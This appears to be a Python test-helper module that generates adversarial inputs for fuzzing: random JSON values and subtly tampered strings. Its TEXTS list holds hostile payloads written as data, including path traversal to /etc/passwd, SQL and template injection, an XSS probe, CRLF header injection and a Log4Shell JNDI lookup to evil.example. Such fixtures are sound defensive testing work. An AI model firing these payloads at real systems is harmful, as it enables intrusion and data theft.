"""Values that nobody expects where they stand."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import Any

TEXTS = (
    *("", " ", "\x00", "7", "null", "true", "../../../../etc/passwd", "..\\..\\windows\\win.ini"),
    *("https://evil.example/", "' OR 1=1 --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%2e%2e"),
    *("<script>alert(1)</script>", "\u202egnp.exe", "\u200b", "é" * 40, "🍕", "\r\nX-Evil: 1"),
    *("x" * 9000, "ａｄｍｉｎ", "аlexa", "__proto__", "-1", "1e999", "٣"),
)
NUMBERS = (0, -1, 1, 7, 10**9, 9_999_999_999, -(2**63), 10**400, 0.5, 1e300)
NO_NUMBERS = (float("nan"), float("inf"), float("-inf"))


def text(random: Random) -> str:
    """A few characters of anywhere; halves of pairs are none."""
    codes = [random.choice((random.randrange(0xD800), random.randrange(128))) for _ in range(12)]
    return "".join(map(chr, codes[: random.randrange(13)]))


_WHOLE: tuple[Callable[[Random], Any], ...] = (
    lambda _: None,
    lambda random: random.random() < 0.5,
    lambda random: random.choice(NUMBERS),
    lambda random: random.choice(NO_NUMBERS),
    lambda random: random.choice(TEXTS),
    text,
)


def json_value(random: Random, depth: int = 3) -> Any:
    """Anything that JSON has, and Python's JSON besides: NaN is in it."""
    if depth and random.random() < 0.3:
        inside = [json_value(random, depth - 1) for _ in range(random.randrange(4))]
        if random.random() < 0.5:
            return inside
        return {random.choice(TEXTS): value for value in inside}
    return random.choice(_WHOLE)(random)


def tampered(random: Random, good: str) -> str:
    """A text that is not quite as it was."""
    return random.choice(_TAMPERINGS)(good, random)


def _at(good: str, random: Random) -> int:
    return random.randrange(len(good)) if good else 0


def _replaced(good: str, random: Random) -> str:
    at = _at(good, random)
    return good[:at] + random.choice("AZaz09-_=+/. %\n\x00") + good[at + 1 :]


def _inserted(good: str, random: Random) -> str:
    at = _at(good, random)
    return (
        good[:at] + random.choice(["A", "=", ".", " ", "\r\n", "\x00", "\u200b", "é"]) + good[at:]
    )


def _look_alike(good: str, random: Random) -> str:
    """The same to a reader: Cyrillic, or of full width."""
    at = _at(good, random)
    twin = dict(zip("aceopxyABEKMHOPCTX", "асеорхуАВЕКМНОРСТХ", strict=True)).get(good[at : at + 1])
    code = ord(good[at]) if good else 0
    wide = chr(code + 0xFEE0) if 0x21 <= code <= 0x7E else "ａ"
    return good[:at] + (twin or wide) + good[at + 1 :]


def _bit_flipped(good: str, random: Random) -> str:
    at = _at(good, random)
    flipped = chr(ord(good[at]) ^ (1 << random.randrange(7))) if good else "A"
    return good[:at] + flipped + good[at + 1 :]


def _swapped(good: str, random: Random) -> str:
    at, other = sorted((_at(good, random), _at(good, random)))
    return good[:at] + good[other : other + 1] + good[at + 1 : other] + good[at : at + 1]


_TAMPERINGS: tuple[Callable[[str, Random], str], ...] = (
    _replaced,
    _inserted,
    _look_alike,
    _bit_flipped,
    _swapped,
    lambda good, random: good[: _at(good, random)],
    lambda good, random: good[_at(good, random) + 1 :],
    lambda good, random: good + good[: _at(good, random) + 1],
    lambda good, _: good.swapcase(),
    lambda good, _: good[::-1],
    lambda good, _: good.replace("-", "+").replace("_", "/"),
    lambda good, random: good + "=" * random.randrange(1, 5),
)
